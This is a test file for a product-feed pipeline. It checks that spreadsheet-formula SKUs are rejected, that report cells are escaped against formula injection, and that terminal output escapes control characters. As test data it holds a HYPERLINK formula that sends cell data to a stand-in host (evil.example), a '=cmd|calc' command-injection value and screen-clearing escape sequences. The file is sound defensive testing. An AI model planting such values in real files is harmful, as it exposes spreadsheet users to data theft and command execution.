/**
 * Values that attack whoever opens a file or reads a terminal (issue 11 item 8). The product feed
 * refuses a sku that starts like a spreadsheet formula, a control character anywhere, and a sku
 * over its length limit, and keeps free text as it is; the reject and item reports (read by
 * people in Excel) make formula starts inert with a leading '; a plain csv destination keeps exact
 * values unless `escape_formulas`; every CLI printer shows control characters escaped.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatNumber } from '../../engine/connectors/destinations/manomano-products/normalize.js';
import { startSimulator, type Simulator } from '../../engine/manomano/simulator/index.js';
import { humanCell } from '../../engine/runtime/csv-format.js';
import { parseCsvText } from '../../engine/runtime/csv-parse.js';
import { runPipeline } from '../../engine/runtime/run.js';
import { terminalField, terminalSafe } from '../../engine/terminal.js';
import { runCli } from '../helpers/cli.js';

const ESC = '\u001b';
const formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

function dirWith(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'mf-inject-'));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return dir;
}

const csvRows = (file: string) => parseCsvText(readFileSync(file, 'utf8'), { delimiter: ',' }).map((r) => r.fields);
/** The reject report's rows as objects, by its header. */
const reportRows = (file: string) => {
  const [head, ...body] = csvRows(file);
  return body.map((f) => Object.fromEntries(head!.map((h, i) => [h, f[i]])) as Record<string, string>);
};

const products = (rows: Record<string, string>[]) => JSON.stringify(rows.map((r) => ({
  brand: 'Bosch', title: 'Perceuse', description: 'Une perceuse', image_1: 'https://i.example/1.jpg', ean: '4006381333931',
  price: 59.9, quantity: 3, carrier: 'DPD', shipping_time: '2#4', shipping_price: 0, category: 1234, ...r,
})));

const productsPipeline = `version: 1
name: inject
source: { type: json, path: in.json }
mapping:
  automap: true
  attributes:
    product_price_vat_inc: price
    shipping_price_vat_inc: shipping_price
    mm_category_id: category
destination: { type: manomano-products, output: out/feed.csv, delimiter: "," }
`;

describe('the product feed', () => {
  it('refuses a formula sku, a control character and a 100,000-character sku; keeps a leading - in a title', async () => {
    const dir = dirWith({
      'p.yaml': productsPipeline,
      'in.json': products([
        { sku: formula, ean: '4006381333931' },
        { sku: `SKU${ESC}[2J-2`, ean: '036000291452' },
        { sku: 'X'.repeat(100_000), ean: '10012345678902' },
        { sku: 'OK-4', ean: '4006381333948', title: '- 20 % : perceuse', description: 'Ligne 1\nLigne 2' },
        { sku: 'NUL-5', ean: '5901234123457', title: 'Perceuse\u0000' },
      ]),
    });
    const s = await runPipeline(join(dir, 'p.yaml'), { force: true });
    expect([s.written, s.rejected]).toEqual([1, 4]);
    expect(s.rejectsByCode).toEqual({ MM_SKU_FORMULA: 1, MM_CONTROL_CHARACTER: 2, MM_SKU_TOO_LONG: 1 });
    const feed = csvRows(join(dir, 'out/feed.csv'));
    expect(feed).toHaveLength(2);
    const header = feed[0]!;
    expect(feed[1]![header.indexOf('title')]).toBe('- 20 % : perceuse');
    expect(feed[1]![header.indexOf('description')]).toBe('Ligne 1\nLigne 2');

    // the reject report, read by people in a spreadsheet: the formula sku is inert, ESC shown escaped
    const rejects = reportRows(s.rejectReport);
    const ids = rejects.map((r) => r.id);
    expect(ids).toContain(`'${formula}`);
    expect(ids).toContain('SKU\\e[2J-2');
    expect(readFileSync(s.rejectReport, 'utf8')).not.toContain(ESC);
    const formulaRow = rejects.find((r) => r.code === 'MM_SKU_FORMULA')!;
    expect(formulaRow.message).toMatch(/^sku "=HYPERLINK.*starts with "=", which a spreadsheet reads as the start of a formula$/);
    expect(formulaRow.hint).toMatch(/may not start with =, \+, -, @/);
    expect(rejects.find((r) => r.code === 'MM_SKU_TOO_LONG')!.message).toMatch(/has 100000 characters, more than 100$/);
    expect(rejects.find((r) => r.id === 'NUL-5')!.message).toBe('title holds the control character \\u0000 at character 9');
  });

  it('writes large numbers without an exponent (1e21 used to be written "1e+21")', () => {
    expect(formatNumber(1e21, 6, '.')).toBe('1000000000000000000000');
    expect(formatNumber(-1.5e22, 2, ',')).toBe('-15000000000000000000000');
  });
});

describe('human-facing CSV cells', () => {
  it.each([
    ['=1+1', "'=1+1"], ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"], ['-cmd', "'-cmd"], ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"], ['\rx', '\\rx'], ['-5', '-5'], ['+3.5', '+3.5'], ['-0,5', '-0,5'], ['a=b', 'a=b'],
    [`x${ESC}[31m`, 'x\\e[31m'], ['line 1\nline 2', 'line 1\nline 2'], [12, 12], [undefined, undefined],
  ] as [unknown, unknown][])('%j → %j', (input, output) => {
    expect(humanCell(input)).toEqual(output);
  });

  it('a plain csv destination keeps exact values, unless escape_formulas (for a file opened in a spreadsheet)', async () => {
    for (const escape of [false, true]) {
      const dir = dirWith({
        'in.csv': 'ref,name,phone\nA1,=cmd|calc,+33 6 12 34 56 78\nA2,-5,-5\n',
        'p.yaml': `version: 1\nname: orders\nsource: { type: csv, path: in.csv }\ndestination: { type: csv, output: out.csv, escape_formulas: ${escape} }\n`,
      });
      await runPipeline(join(dir, 'p.yaml'));
      expect(csvRows(join(dir, 'out.csv')).slice(1)).toEqual(escape
        ? [['A1', "'=cmd|calc", "'+33 6 12 34 56 78"], ['A2', '-5', '-5']]
        : [['A1', '=cmd|calc', '+33 6 12 34 56 78'], ['A2', '-5', '-5']]);
    }
  });
});

describe('terminal output', () => {
  let sim: Simulator;
  beforeAll(async () => { sim = await startSimulator({ port: 0 }); });
  afterAll(async () => { await sim?.close(); });

  it('plan prints a sku holding ESC sequences escaped (it used to clear the screen)', async () => {
    const dir = dirWith({
      'stock.csv': `sku,quantity,price\n"EVIL${ESC}[2J${ESC}[H-1",3,"9,90"\n`,
      'p.yaml': `version: 1\nname: plan-esc\nsource: { type: csv, path: stock.csv }\nmapping:\n  automap: false\n  attributes:\n    sku: sku\n    quantity: quantity\n    price_vat_included: price\ndestination:\n  type: manomano-offers\n  environment: local\n  base_url: ${sim.url}\n  api_key: sandbox-key-0001\n  seller_contract_id: 110841\n`,
    });
    const r = await runCli(['plan', join(dir, 'p.yaml')]);
    expect(r.code).toBe(0);
    expect(r.stdout + r.stderr).not.toContain(ESC);
    expect(r.stdout).toContain('would-send update   EVIL\\e[2J\\e[H-1  price → 9.90; stock → 3');
  });

  it('a run warning naming a source column holds no raw control character', async () => {
    const dir = dirWith({
      'in.csv': 'ref\nA1\n',
      'late.json': JSON.stringify([{ ref: 'A1' }, ...Array.from({ length: 600 }, (_, i) => ({ ref: `B${i}`, ...(i === 599 ? { [`x${ESC}[2J`]: 1 } : {}) }))]),
      'p.yaml': 'version: 1\nname: warn\nsource: { type: json, path: late.json }\ndestination: { type: csv, output: out.csv }\n',
    });
    const r = await runCli(['run', join(dir, 'p.yaml')]);
    expect(r.stderr).toContain('"x\\e[2J" is not a column');
    expect(r.stderr).not.toContain(ESC);
  });

  it('escapes C0, DEL, C1 and bidi controls; keeps line breaks only in multi-line text', () => {
    expect(terminalSafe(`a${ESC}[2Jb\u0007c\u007fd\u009be\u202ef\ng\th`)).toBe('a\\e[2Jb\\x07c\\x7fd\\x9be\\u202ef\ng\th');
    expect(terminalField('id\nforged line\r\t')).toBe('id\\nforged line\\r\\t');
    expect(terminalField('Perceuse «pro» 18V')).toBe('Perceuse «pro» 18V');
  });
});
